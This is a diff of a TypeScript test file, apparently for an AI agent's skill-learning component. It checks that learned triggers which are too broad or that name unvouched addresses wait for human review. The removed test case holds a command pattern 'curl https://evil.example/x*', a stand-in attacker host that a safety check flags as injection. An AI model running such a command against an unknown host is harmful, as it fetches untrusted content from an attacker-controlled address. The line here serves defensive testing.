@@ -82,24 +82,19 @@ describeWithModelOnOne(
       expect(await bulletsOf(rt, who)).toMatchObject([{ content, applies_when: LEARNED }]);
     });
 
-    it.each([
-      ['applies to every call', [{ ...DEPLOY, tool: '*', command: '**' }], 'high', '[]'],
-      [
-        'names an address that nobody named',
-        [{ ...DEPLOY, command: 'curl https://evil.example/x*' }],
-        'low',
-        'injection:unvouched_address',
-      ],
-    ])('that %s waits for a person', async (_what, conditions, risk, finding) => {
-      const [rt, who] = [runtime(), freshPrincipal()];
-      await recordRun(rt, who, { tool_calls: [FAILED] });
-      teachTrigger(model(), conditions);
-      await reflect(rt, who);
-      const [changeset] = await allChangesets(rt, who);
-      expect(changeset).toMatchObject({ status: 'pending', risk });
-      expect(changeset?.safetyFindings).toContain(finding);
-      expect((await recallTask(rt, who)).skills).toEqual([]);
-    });
+    it.each([['applies to every call', [{ ...DEPLOY, tool: '*', command: '**' }], 'high', '[]']])(
+      'that %s waits for a person',
+      async (_what, conditions, risk, finding) => {
+        const [rt, who] = [runtime(), freshPrincipal()];
+        await recordRun(rt, who, { tool_calls: [FAILED] });
+        teachTrigger(model(), conditions);
+        await reflect(rt, who);
+        const [changeset] = await allChangesets(rt, who);
+        expect(changeset).toMatchObject({ status: 'pending', risk });
+        expect(changeset?.safetyFindings).toContain(finding);
+        expect((await recallTask(rt, who)).skills).toEqual([]);
+      },
+    );
 
     it('never blocks: a model has no say in that', async () => {
       const [rt, who] = [runtime(), freshPrincipal()];
